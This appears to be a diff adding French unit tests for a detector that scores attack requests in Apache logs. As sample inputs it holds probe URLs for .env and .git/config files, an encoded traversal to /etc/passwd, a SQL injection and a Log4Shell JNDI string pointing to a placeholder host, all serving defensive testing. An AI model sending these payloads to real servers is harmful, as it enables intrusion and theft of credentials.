@@ -0,0 +1,170 @@
+"""
+Module des tests unitaires pour la détection des requêtes d'attaque.
+"""
+
+import json
+import pytest
+from analyse.filtre_log_apache import FiltreLogApache
+from analyse.detecteur_attaques import DetecteurAttaques, SignaturesAttaquesException
+from parse.parseur_log_apache import ParseurLogApache
+
+
+# Fonctions utilitaires pour les tests unitaires
+
+def cree_entree(parseur, url, ip="10.0.0.1", code=404):
+    """
+    Crée une entrée de log Apache avec l'url indiquée.
+
+    Args:
+        parseur (ParseurLogApache): Le parseur des entrées.
+        url (str): L'url demandée.
+        ip (str): L'adresse IP du client.
+        code (int): Le code de statut http de la réponse.
+
+    Returns:
+        EntreeLogApache: L'entrée.
+    """
+    return parseur.parse_entree(
+        f'{ip} - - [12/Jan/2025:10:00:00 +0000] "GET {url} HTTP/1.1" {code} 100'
+    )
+
+
+# Tests unitaires
+
+@pytest.mark.parametrize("url, score, signatures", [
+    ("/index.html", 0, ()),
+    ("/.env", 5, ("Fichiers sensibles",)),
+    ("/wp-admin/setup-config.php", 2, ("WordPress",)),
+    ("/cgi-bin/%2e%2e/%2e%2e/etc/passwd", 7, ("Traversée de répertoires",
+                                              "Interfaces d'administration")),
+    ("/recherche?q=1+UNION+SELECT+password", 5, ("Injection SQL",)),
+    ("/?x=${jndi:ldap://exemple/a}", 5, ("Log4Shell",))
+])
+def test_attaques_verdict_signatures_par_defaut(url, score, signatures):
+    """
+    Vérifie le verdict d'urls courantes avec les signatures fournies.
+
+    Scénarios testés:
+        - Url légitime.
+        - Fichiers sensibles, WordPress, traversée encodée, injection SQL encodée
+          (``+`` pour les espaces), Log4Shell.
+
+    Asserts:
+        - Le score est la somme des scores des signatures trouvées.
+        - Les signatures sont dans l'ordre du fichier.
+
+    Args:
+        url (str): L'url.
+        score (int): Le score attendu.
+        signatures (tuple): Les noms des signatures attendues.
+    """
+    detecteur = DetecteurAttaques(FiltreLogApache(None, None))
+    assert detecteur.get_verdict(url) == (score, signatures)
+
+def test_attaques_clients_suspects(log_apache):
+    """
+    Vérifie le classement des clients suspects et la mémorisation des verdicts.
+
+    Scénarios testés:
+        - Un scanner qui répète des sondes, un client légitime et une requête
+          exclue par le filtre.
+
+    Asserts:
+        - Les clients sont classés par score, avec leurs signatures.
+        - Les requêtes suspectes et les signatures sont comptées.
+        - Chaque url distincte n'est analysée qu'une fois.
+
+    Args:
+        log_apache (Callable): La fixture pour créer un fichier log temporaire.
+    """
+    parseur = ParseurLogApache(str(log_apache(True)))
+    detecteur = DetecteurAttaques(FiltreLogApache(None, None, "code >= 400"))
+    detecteur.ajoute_entrees([cree_entree(parseur, "/.env", "10.0.0.9")] * 3
+                             + [cree_entree(parseur, "/wp-login.php", "10.0.0.9"),
+                                cree_entree(parseur, "/wp-login.php", "10.0.0.2"),
+                                cree_entree(parseur, "/", "10.0.0.3"),
+                                cree_entree(parseur, "/.env", "10.0.0.4", 200)])
+    analyse = detecteur.get_analyse()
+    assert detecteur.total_entrees == 7
+    assert (analyse["requetes_analysees"], analyse["requetes_suspectes"]) == (6, 5)
+    assert analyse["top_signatures"] == [{"signature": "Fichiers sensibles", "total": 3},
+                                         {"signature": "WordPress", "total": 2}]
+    assert analyse["clients_suspects"] == [
+        {"adresse_ip": "10.0.0.9", "score": 17, "erreur_max": 0,
+         "signatures": ["Fichiers sensibles", "WordPress"]},
+        {"adresse_ip": "10.0.0.2", "score": 2, "erreur_max": 0, "signatures": ["WordPress"]}
+    ]
+    assert analyse["cache"] == {"succes": 3, "verdicts": 3, "taille": 3}
+
+def test_attaques_clients_memoire_bornee(log_apache):
+    """
+    Vérifie que le nombre d'adresses suivies et de signatures conservées reste borné.
+
+    Scénarios testés:
+        - Cent scanners distincts avec une capacité de cinq adresses.
+
+    Asserts:
+        - Au plus cinq adresses sont classées.
+        - Les signatures des adresses évincées sont oubliées.
+
+    Args:
+        log_apache (Callable): La fixture pour créer un fichier log temporaire.
+    """
+    parseur = ParseurLogApache(str(log_apache(True)))
+    detecteur = DetecteurAttaques(FiltreLogApache(None, None), capacite_clients=5)
+    for numero in range(100):
+        detecteur.ajoute_entree(cree_entree(parseur, "/.git/config", f"10.0.1.{numero}"))
+        assert len(detecteur._signatures_clients) <= 10
+    assert len(detecteur.get_analyse(100)["clients_suspects"]) == 5
+
+@pytest.mark.parametrize("contenu", [
+    "{invalide",
+    json.dumps([]),
+    json.dumps({"signatures": [{"nom": "Sonde", "score": 0, "motifs": ["/sonde"]}]}),
+    json.dumps({"signatures": [{"nom": "Sonde", "score": 1, "motifs": []}]})
+])
+def test_attaques_exception_signatures_invalides(tmp_path, contenu):
+    """
+    Vérifie qu'un fichier de signatures invalide lève une
+    ``SignaturesAttaquesException``.
+
+    Scénarios testés:
+        - Fichier JSON invalide, sans liste de signatures, signature de score nul
+          ou sans motif.
+
+    Asserts:
+        - Une exception :class:`SignaturesAttaquesException` est levée.
+
+    Args:
+        tmp_path (Path): Chemin temporaire fourni par pytest.
+        contenu (str): Le contenu du fichier de signatures.
+    """
+    chemin = tmp_path / "signatures.json"
+    chemin.write_text(contenu)
+    with pytest.raises(SignaturesAttaquesException):
+        DetecteurAttaques(FiltreLogApache(None, None), str(chemin))
+
+@pytest.mark.parametrize("parametres, exception", [
+    ({"filtre": None}, TypeError),
+    ({"chemin_signatures": 3}, TypeError),
+    ({"taille_cache": "10"}, TypeError),
+    ({"capacite_clients": 0}, ValueError)
+])
+def test_attaques_exception_parametres_invalides(parametres, exception):
+    """
+    Vérifie que la classe renvoie une erreur lorsque les paramètres du constructeur
+    sont invalides.
+
+    Scénarios testés:
+        - Filtre, chemin ou taille du cache d'un type incorrect.
+        - Capacité nulle.
+
+    Asserts:
+        - L'exception attendue est levée.
+
+    Args:
+        parametres (dict): Les paramètres qui remplacent les paramètres valides.
+        exception (type): L'exception attendue.
+    """
+    with pytest.raises(exception):
+        DetecteurAttaques(**{"filtre": FiltreLogApache(None, None), **parametres})